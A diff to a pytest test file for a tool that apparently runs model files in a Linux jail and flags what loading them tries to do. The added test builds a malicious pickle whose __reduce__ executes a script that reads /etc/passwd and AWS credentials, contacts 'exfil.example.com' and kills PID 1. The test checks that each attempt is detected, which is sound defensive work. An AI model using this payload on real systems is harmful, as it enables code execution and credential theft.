@@ -11,6 +11,7 @@ import pytest
 
 from modelairlock.isolation import jail
 from modelairlock.pipeline import detonate as room
+from modelairlock.pipeline import usual
 from modelairlock.pipeline.detonate import detonate, loaders_of
 from modelairlock.records.coverage import Coverage
 from modelairlock.records.errors import AirlockError
@@ -79,7 +80,7 @@ def test_what_it_tried_is_a_finding(monkeypatch: pytest.MonkeyPatch, tmp_path: P
     [one] = record.detonations
     assert one.verdict is Verdict.FLAGGED
     assert [finding.rule for finding in one.findings] == ["load-runs-program", "load-contradicts-scan"]
-    assert loaders == ["pickle.load", "pickle.load"], "the second is an honest file, to see what is usual here"
+    assert loaders == ["pickle.load"], "no habit excuses that, so no honest file is asked"
 
 
 def test_what_an_honest_file_does_too_is_usual(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
@@ -307,6 +308,64 @@ def test_for_real(tmp_path: Path) -> None:
 @pytest.mark.parametrize("loader", ["pickle.load", "joblib.load", "numpy.load", "torch.load"])
 def test_the_honest_files_are_loaded(loader: str) -> None:
     pytest.importorskip(loader.partition(".")[0])
-    with room._honest(loader) as fd:
+    with usual.honest_file(loader) as fd:
         result = jail.run(jail.loading(loader, fd, sys.executable), limits=JailLimits())
     assert result.outcome is Outcome.COMPLETED, result.detail
+
+
+TRIES = """
+import ctypes, os, signal, socket
+def tried(what):
+    try: what()
+    except Exception: pass
+tried(lambda: os.execv("/bin/true", ["true", "--of=it"]))
+tried(lambda: open("/etc/passwd"))
+tried(lambda: os.open("/srv/someone/planted", os.O_WRONLY | os.O_CREAT, 0o640))
+tried(lambda: open("/srv/someone/.aws/credentials"))
+tried(lambda: open("/proc/self/environ"))
+tried(lambda: socket.create_connection(("198.51.100.7", 443)))
+tried(lambda: socket.socket(socket.AF_INET6).connect(("2001:db8::7", 8443)))
+tried(lambda: socket.getaddrinfo("exfil.example.com", 80))
+tried(lambda: os.kill(1, signal.SIGKILL))
+tried(lambda: ctypes.CDLL(None).ptrace(16, 1, 0, 0))
+tried(lambda: os.environ["AWS_SECRET_ACCESS_KEY"])
+tried(lambda: __import__("xmlrpc.client"))
+tried(lambda: os.fork() or os._exit(0))
+"""
+
+
+@pytest.mark.jail
+@pytest.mark.usefixtures("jailed_python")
+@pytest.mark.skipif(sys.platform != "linux", reason="the jail is Linux's")
+def test_all_that_it_tried_is_reported_with_what_it_was_after(tmp_path: Path) -> None:
+    class Payload:
+        def __reduce__(self) -> tuple[object, ...]:
+            return exec, (TRIES, {})
+
+    [one] = detonate([put(tmp_path, "m.pkl", pickle.dumps(Payload()))], interpreter=sys.executable).detonations
+    told = {" ".join((event.syscall, *event.arguments)) for event in one.events}
+    for words in (
+        "execve /bin/true ['true', '--of=it']",
+        "openat /etc/passwd O_RDONLY",
+        "openat /srv/someone/planted O_WRONLY|O_CREAT",
+        "openat /srv/someone/.aws/credentials O_RDONLY",
+        "openat /proc/self/environ O_RDONLY",
+        "198.51.100.7:443",
+        "[2001:db8::7]:8443",
+        "name exfil.example.com",
+        "kill 1 9",
+        "ptrace 0x10 1",
+    ):
+        assert any(words in call for call in told), (words, told)
+    assert {event.syscall for event in one.events} & {"clone", "fork", "vfork"}
+    assert {event.phase for event in one.events} == {"load"}
+    assert {finding.rule for finding in one.findings} == {
+        "load-runs-program", "load-reads-files", "load-writes-files", "load-reaches-network", "load-attacks-machine",
+        "load-starts-process",
+    }  # fmt: skip
+    [reading] = [finding for finding in one.findings if finding.rule == "load-reads-files"]
+    assert (reading.severity.value, "/.aws/credentials" in reading.message) == ("high", True)
+    assert one.variables == ("AWS_SECRET_ACCESS_KEY",)
+    assert "xmlrpc" in one.imported
+    assert one.limits is not None
+    assert [phase.name for phase in one.phases] == ["import", "load", "inference", "unload"]
